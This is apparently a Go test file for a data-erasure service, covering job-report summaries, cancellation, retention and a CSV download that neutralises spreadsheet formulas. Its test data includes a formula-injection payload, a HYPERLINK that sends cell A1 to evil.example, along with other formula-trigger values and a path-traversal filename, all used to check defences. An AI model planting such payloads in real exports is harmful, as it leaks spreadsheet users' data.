package server_test

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"connectrpc.com/connect"
	"google.golang.org/protobuf/proto"

	erasurev1 "github.com/erasure-dev/erasure/gen/erasure/v1"
	"github.com/erasure-dev/erasure/gen/erasure/v1/erasurev1connect"
	"github.com/erasure-dev/erasure/internal/auth"
	"github.com/erasure-dev/erasure/internal/deletion"
	"github.com/erasure-dev/erasure/internal/identifier"
	"github.com/erasure-dev/erasure/internal/profile"
)

const (
	deleted      = erasurev1.Outcome_OUTCOME_DELETED
	notFound     = erasurev1.Outcome_OUTCOME_NOT_FOUND
	invalidRow   = erasurev1.Outcome_OUTCOME_INVALID
	duplicate    = erasurev1.Outcome_OUTCOME_DUPLICATE
	unsubscribed = erasurev1.Outcome_OUTCOME_UNSUBSCRIBED
	alreadyUnsub = erasurev1.Outcome_OUTCOME_ALREADY_UNSUBSCRIBED
	hyperlink    = `=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`
)

// hostileRows is a list with every deletion outcome, more than 10 rows
// deleted, and invalid values a spreadsheet would run or read as numbers.
// Row n of the job is entry n-1.
var hostileRows = []struct {
	value   string
	outcome erasurev1.Outcome
}{
	{"d00@example.com", deleted}, {hyperlink, invalidRow}, {"d01@example.com", deleted},
	{"nobody1@example.com", notFound}, {"+1", invalidRow}, {"d02@example.com", deleted},
	{"D00@EXAMPLE.COM", duplicate}, {"-2", invalidRow}, {"d03@example.com", deleted},
	{"@x", invalidRow}, {"d04@example.com", deleted}, {"\tfoo", invalidRow},
	{"d05@example.com", deleted}, {"nöt an address", invalidRow}, {"d06@example.com", deleted},
	{"nobody2@example.com", notFound}, {"d07@example.com", deleted}, {"d08@example.com", deleted},
	{"d09@example.com", deleted}, {"d10@example.com", deleted}, {"d11@example.com", deleted},
	{"d05@example.com", duplicate}, {"\rbar", invalidRow},
}

// hostileJob seeds the profiles of hostileRows and deletes by the list.
func hostileJob(t *testing.T, e *env) *erasurev1.Job {
	t.Helper()
	var values []string
	for _, r := range hostileRows {
		values = append(values, r.value)
		if r.outcome == deleted {
			e.seed(t, newProfile("acme", identifier.Email, r.value, "s1"))
		}
	}
	e.seed(t, newProfile("other", identifier.Email, "d00@example.com", "s1"))
	j := deleteList(t, e.connect, values...)
	if j.GetState() != erasurev1.JobState_JOB_STATE_SUCCEEDED {
		t.Fatalf("job = %v", j)
	}
	return j
}

// The report summary: per outcome its count and first 10 rows in row
// order, the job as GetJob returns it, nothing about unprocessed rows for a
// job that processed them all; the same over gRPC and Connect.
func TestJobReportSummary(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	e := newEnv(t, deletion.Config{})
	j := hostileJob(t, e)

	want := map[erasurev1.Outcome][]int64{}
	counts := map[erasurev1.Outcome]int64{}
	for i, r := range hostileRows {
		counts[r.outcome]++
		if len(want[r.outcome]) < 10 {
			want[r.outcome] = append(want[r.outcome], int64(i+1))
		}
	}
	if counts[deleted] <= 10 {
		t.Fatal("the list must delete more than 10 rows")
	}
	got, err := e.grpc.GetJobReport(ctx, &erasurev1.GetJobReportRequest{JobId: j.GetJobId()})
	if err != nil {
		t.Fatal(err)
	}
	byConnect, err := e.connect.GetJobReport(ctx, connect.NewRequest(&erasurev1.GetJobReportRequest{AccountId: "acme", JobId: j.GetJobId()}))
	if err != nil {
		t.Fatal(err)
	}
	if !proto.Equal(got, byConnect.Msg) {
		t.Fatalf("gRPC and Connect differ:\n%v\n%v", got, byConnect.Msg)
	}
	getJob, err := e.connect.GetJob(ctx, connect.NewRequest(&erasurev1.GetJobRequest{JobId: j.GetJobId()}))
	if err != nil {
		t.Fatal(err)
	}
	if !proto.Equal(got.GetJob(), getJob.Msg.GetJob()) {
		t.Fatalf("report's job %v\nGetJob's %v", got.GetJob(), getJob.Msg.GetJob())
	}
	if got.RowsNotProcessed != nil || got.GetOutcomesPurged() {
		t.Fatalf("a succeeded job: rows_not_processed %v, outcomes_purged %v", got.RowsNotProcessed, got.GetOutcomesPurged())
	}
	var order []erasurev1.Outcome
	for _, o := range got.GetOutcomes() {
		order = append(order, o.GetOutcome())
		var rows []int64
		for _, r := range o.GetRows() {
			rows = append(rows, r.GetRow())
			if r.GetOutcome() != o.GetOutcome() || r.GetValue() != hostileRows[r.GetRow()-1].value {
				t.Errorf("%v: row %d = %v", o.GetOutcome(), r.GetRow(), r)
			}
		}
		if o.GetCount() != counts[o.GetOutcome()] || !slices.Equal(rows, want[o.GetOutcome()]) {
			t.Errorf("%v: count %d rows %v, want %d %v", o.GetOutcome(), o.GetCount(), rows, counts[o.GetOutcome()], want[o.GetOutcome()])
		}
	}
	if !slices.Equal(order, []erasurev1.Outcome{deleted, notFound, invalidRow, duplicate}) {
		t.Fatalf("outcomes in order %v", order)
	}
	first := got.GetOutcomes()[0].GetRows()[0]
	if first.GetProfileId() == "" || first.GetNormalized() != "d00@example.com" {
		t.Fatalf("a deleted row says %v", first)
	}
	if dup := got.GetOutcomes()[3].GetRows()[0]; dup.GetDuplicateOfRow() != 1 {
		t.Fatalf("a duplicate row says %v", dup)
	}
}

// A summary of a job longer than the rows a summary reads at once: outcomes
// rare at its start are completed from further on.
func TestJobReportSummaryOfALongJob(t *testing.T) {
	t.Parallel()
	e := newEnv(t, deletion.Config{BatchSize: 100})
	var values []string
	want := map[erasurev1.Outcome][]int64{}
	add := func(o erasurev1.Outcome, v string) {
		values = append(values, v)
		if len(want[o]) < 10 {
			want[o] = append(want[o], int64(len(values)))
		}
	}
	for i := range 195 {
		add(invalidRow, fmt.Sprintf("x%d", i))
	}
	for i := range 5 {
		add(notFound, fmt.Sprintf("nobody%d@example.com", i))
	}
	for i := range 30 {
		add(notFound, fmt.Sprintf("later%d@example.com", i))
		add(duplicate, "nobody0@example.com")
		if i%10 == 0 {
			v := fmt.Sprintf("d%d@example.com", i)
			e.seed(t, newProfile("acme", identifier.Email, v, "s1"))
			add(deleted, v)
		}
	}
	j := deleteList(t, e.connect, values...)
	res, err := e.connect.GetJobReport(context.Background(), connect.NewRequest(&erasurev1.GetJobReportRequest{JobId: j.GetJobId()}))
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, o := range res.Msg.GetOutcomes() {
		var rows []int64
		for _, r := range o.GetRows() {
			rows = append(rows, r.GetRow())
		}
		got = append(got, fmt.Sprintf("%v %v", o.GetOutcome(), rows))
	}
	var exp []string
	for _, o := range []erasurev1.Outcome{deleted, notFound, invalidRow, duplicate} {
		exp = append(exp, fmt.Sprintf("%v %v", o, want[o]))
	}
	if strings.Join(got, "\n") != strings.Join(exp, "\n") {
		t.Fatalf("summary\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(exp, "\n"))
	}
}

// The full report as CSV: every row in order, cells a spreadsheet would
// run neutralised, UTF-8 with BOM and CRLF; then opened with LibreOffice.
func TestDownloadReport(t *testing.T) {
	t.Parallel()
	e := newEnv(t, deletion.Config{})
	j := hostileJob(t, e)
	name, contentType, file, _ := download(t, e, j.GetJobId())
	if name != "delete-list-report-"+j.GetJobId()+".csv" || contentType != "text/csv; charset=utf-8" {
		t.Fatalf("filename %q, content type %q", name, contentType)
	}
	records := readReport(t, file)
	header := "row,value,normalized,outcome,reason,duplicate_of_row,profile_id,hint"
	if got := strings.Join(records[0], ","); got != header {
		t.Fatalf("header %s, want %s", got, header)
	}
	if len(records) != len(hostileRows)+1 {
		t.Fatalf("%d records, want a header and %d rows", len(records), len(hostileRows))
	}
	neutralised := map[string]string{hyperlink: "'" + hyperlink, "+1": "'+1", "-2": "'-2", "@x": "'@x", "\tfoo": "'\tfoo", "\rbar": "'\rbar"}
	for i, rec := range records[1:] {
		r := hostileRows[i]
		wantValue := r.value
		if v, ok := neutralised[r.value]; ok {
			wantValue = v
		}
		if rec[0] != itoa(int64(i+1)) || rec[1] != wantValue || rec[3] != strings.TrimPrefix(r.outcome.String(), "OUTCOME_") {
			t.Errorf("record %d = %q, want row %d, value %q, %v", i+1, rec, i+1, wantValue, r.outcome)
		}
		switch r.outcome {
		case deleted:
			if rec[2] != strings.ToLower(r.value) || rec[6] == "" {
				t.Errorf("deleted record %q has no normalized value or profile id", rec)
			}
		case invalidRow:
			if rec[4] == "" {
				t.Errorf("invalid record %q has no reason", rec)
			}
		case duplicate:
			if rec[5] == "" || rec[5] == "0" {
				t.Errorf("duplicate record %q does not name the first row", rec)
			}
		}
	}
	if got, want := records[7][5], "1"; got != want {
		t.Fatalf("row 7 duplicates row %s, want %s", got, want)
	}
	t.Run("LibreOffice", func(t *testing.T) { openInLibreOffice(t, file, len(hostileRows)) })
}

// A cancelled job's report says how many rows it never processed; a file
// job cancelled before its rows were counted cannot say, a queued list can.
func TestCancelledJobReport(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	e := newEnv(t, deletion.Config{BatchSize: 1, MaxJobsPerAccount: 1})
	var values []string
	for i := range 300 {
		values = append(values, fmt.Sprintf("c%d@example.com", i))
		e.seed(t, newProfile("acme", identifier.Email, values[i], "s1"))
	}
	stream, err := e.connect.DeleteIdentifiers(ctx, connect.NewRequest(&erasurev1.DeleteIdentifiersRequest{Spec: emailSpec(), Values: values}))
	if err != nil {
		t.Fatal(err)
	}
	cancel := func(id string) {
		t.Helper()
		if _, err := e.connect.CancelJob(ctx, connect.NewRequest(&erasurev1.CancelJobRequest{JobId: id})); err != nil {
			t.Fatal(err)
		}
	}
	var last *erasurev1.Job
	var queuedFile, queuedList string
	for stream.Receive() {
		last = stream.Msg().GetJob()
		if queuedFile == "" && last.GetCounts().GetRows() > 0 {
			// Queued behind the running job (one job per account runs at
			// once), and cancelled there.
			upload := e.uploadChunks(t, "acme", "../März: Liste.csv", []byte("Email\nc1@example.com\n"), 100)
			s, err := e.connect.ExecuteDeletion(ctx, connect.NewRequest(&erasurev1.ExecuteDeletionRequest{Spec: emailSpec(),
				Source: &erasurev1.FileSource{UploadId: upload, Column: &erasurev1.FileSource_ColumnName{ColumnName: "Email"}}}))
			if err != nil || !s.Receive() {
				t.Fatalf("queue a file job: %v %v", err, s.Err())
			}
			queuedFile = s.Msg().GetJob().GetJobId()
			s.Close()
			l, err := e.connect.DeleteIdentifiers(ctx, connect.NewRequest(&erasurev1.DeleteIdentifiersRequest{Spec: emailSpec(), Values: []string{"a@example.com", "b@example.com", "c@example.com"}}))
			if err != nil || !l.Receive() {
				t.Fatalf("queue a list job: %v %v", err, l.Err())
			}
			queuedList = l.Msg().GetJob().GetJobId()
			l.Close()
			cancel(queuedFile)
			cancel(queuedList)
			cancel(last.GetJobId())
		}
	}
	if err := stream.Err(); err != nil {
		t.Fatal(err)
	}
	c := last.GetCounts()
	if last.GetState() != erasurev1.JobState_JOB_STATE_CANCELLED || c.GetRows() == 0 || c.GetRows() >= 300 {
		t.Fatalf("job %v: want cancelled after some rows", last)
	}
	report := func(id string) *erasurev1.GetJobReportResponse {
		t.Helper()
		r, err := e.connect.GetJobReport(ctx, connect.NewRequest(&erasurev1.GetJobReportRequest{JobId: id}))
		if err != nil {
			t.Fatal(err)
		}
		if r.Msg.GetJob().GetState() != erasurev1.JobState_JOB_STATE_CANCELLED {
			t.Fatalf("job %s is %v, want cancelled", id, r.Msg.GetJob().GetState())
		}
		return r.Msg
	}
	r := report(last.GetJobId())
	if r.RowsNotProcessed == nil || r.GetRowsNotProcessed() != 300-c.GetRows() {
		t.Fatalf("rows_not_processed = %v, want %d (300 - %d)", r.RowsNotProcessed, 300-c.GetRows(), c.GetRows())
	}
	if len(r.GetOutcomes()) != 1 || r.GetOutcomes()[0].GetCount() != c.GetRows() || len(r.GetOutcomes()[0].GetRows()) != int(min(c.GetRows(), 10)) {
		t.Fatalf("outcomes of the cancelled job: %v", r.GetOutcomes())
	}
	if r := report(queuedFile); r.RowsNotProcessed != nil || len(r.GetOutcomes()) != 0 {
		t.Fatalf("a file job cancelled unread: rows_not_processed %v, outcomes %v", r.RowsNotProcessed, r.GetOutcomes())
	}
	if r := report(queuedList); r.GetRowsNotProcessed() != 3 {
		t.Fatalf("a list of 3 cancelled while queued: rows_not_processed %v", r.RowsNotProcessed)
	}
	_, _, file, _ := download(t, e, last.GetJobId())
	if n := len(readReport(t, file)) - 1; int64(n) != c.GetRows() {
		t.Fatalf("the cancelled job's file has %d rows, the job processed %d", n, c.GetRows())
	}
	// A file job's report is named after its file, made safe to save.
	name, _, file, _ := download(t, e, queuedFile)
	if want := "März__Liste-report-" + queuedFile + ".csv"; name != want || len(readReport(t, file)) != 1 {
		t.Fatalf("the unread file job's report: %q, %q; want %q with a header only", name, file, want)
	}
}

// Once retention deleted the per-row outcomes, the summary still gives the
// counts and says the rows are gone; the download is refused with advice.
func TestReportAfterRetention(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	e := newEnv(t, deletion.Config{OutcomeRetention: time.Millisecond, SweepInterval: 10 * time.Millisecond})
	e.seed(t, newProfile("acme", identifier.Email, "ann@example.com", "s1"))
	j := deleteList(t, e.connect, "ann@example.com", "nobody@example.com", "not an address")
	var r *erasurev1.GetJobReportResponse
	for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(20 * time.Millisecond) {
		res, err := e.connect.GetJobReport(ctx, connect.NewRequest(&erasurev1.GetJobReportRequest{JobId: j.GetJobId()}))
		if err != nil {
			t.Fatal(err)
		}
		if r = res.Msg; r.GetOutcomesPurged() {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the sweeper did not delete the outcomes within 10 s: %v", r)
		}
	}
	if r.GetJob().GetOutcomesExpireTime() == nil || !countsEqual(r.GetJob().GetCounts(), j.GetCounts()) {
		t.Fatalf("after retention the job says %v, want the counts %v", r.GetJob(), j.GetCounts())
	}
	var summary []string
	for _, o := range r.GetOutcomes() {
		summary = append(summary, fmt.Sprintf("%v=%d/%d", o.GetOutcome(), o.GetCount(), len(o.GetRows())))
	}
	if got := strings.Join(summary, " "); got != "OUTCOME_DELETED=1/0 OUTCOME_NOT_FOUND=1/0 OUTCOME_INVALID=1/0" {
		t.Fatalf("summary after retention: %s", got)
	}
	s, err := e.connect.DownloadReport(ctx, connect.NewRequest(&erasurev1.DownloadReportRequest{JobId: j.GetJobId()}))
	wantCode(t, streamErr(s, err), connect.CodeFailedPrecondition, "retention policy")
}

// An unsubscribe's report: its outcomes first, the consents column, and a
// caller whose token lists sections sees only their consents.
func TestUnsubscribeReport(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	e := newEnv(t, deletion.Config{})
	bob := consented("acme", "bob@example.com", "s1")
	for i := range bob.Sections[0].Consents {
		bob.Sections[0].Consents[i].Status = profile.OptOut
	}
	e.seed(t, consented("acme", "ann@example.com", "s1", "s2"), bob)
	stream, err := e.connect.UnsubscribeIdentifiers(ctx, connect.NewRequest(&erasurev1.UnsubscribeIdentifiersRequest{Spec: emailSpec(),
		Unsubscribe: emailOptOut(), Values: []string{"nobody@example.com", "ann@example.com", "bob@example.com", "-1", "ANN@example.com"}}))
	j := collect(t, stream, err)

	limited := e.client(t, auth.Principal{Account: "acme", Subject: "uma", Kind: auth.KindUser, Role: auth.User, Sections: []string{"s1"}})
	for _, c := range []struct {
		client   erasurev1connect.ErasureServiceClient
		consents string
	}{
		{e.connect, "s1/email/news; s1/email/offers; s2/email/news; s2/email/offers"},
		{limited, "s1/email/news; s1/email/offers"},
	} {
		res, err := c.client.GetJobReport(ctx, connect.NewRequest(&erasurev1.GetJobReportRequest{JobId: j.GetJobId()}))
		if err != nil {
			t.Fatal(err)
		}
		var summary []string
		for _, o := range res.Msg.GetOutcomes() {
			s := fmt.Sprintf("%v=%d", strings.TrimPrefix(o.GetOutcome().String(), "OUTCOME_"), o.GetCount())
			for _, r := range o.GetRows() {
				s += fmt.Sprintf(" %d", r.GetRow())
				for _, ref := range r.GetConsents() {
					s += ":" + ref.GetSectionId()
				}
			}
			summary = append(summary, s)
		}
		want := "UNSUBSCRIBED=1 2:s1:s1:s2:s2, ALREADY_UNSUBSCRIBED=1 3, NOT_FOUND=1 1, INVALID=1 4, DUPLICATE=1 5"
		if c.client == limited {
			want = "UNSUBSCRIBED=1 2:s1:s1, ALREADY_UNSUBSCRIBED=1 3, NOT_FOUND=1 1, INVALID=1 4, DUPLICATE=1 5"
		}
		if got := strings.Join(summary, ", "); got != want {
			t.Fatalf("summary %s\nwant    %s", got, want)
		}

		s, err := c.client.DownloadReport(ctx, connect.NewRequest(&erasurev1.DownloadReportRequest{JobId: j.GetJobId()}))
		if err != nil {
			t.Fatal(err)
		}
		var file []byte
		for s.Receive() {
			file = append(file, s.Msg().GetData()...)
		}
		if err := s.Err(); err != nil {
			t.Fatal(err)
		}
		records := readReport(t, file)
		if got := records[0][len(records[0])-1]; got != "consents" || len(records) != 6 {
			t.Fatalf("%d records, last column %q", len(records), got)
		}
		if got := records[2]; got[3] != "UNSUBSCRIBED" || got[8] != c.consents {
			t.Fatalf("the unsubscribed row reads %q, want consents %q", got, c.consents)
		}
		if got := records[4][1]; got != "'-1" {
			t.Fatalf("value -1 reads %q", got)
		}
	}
}
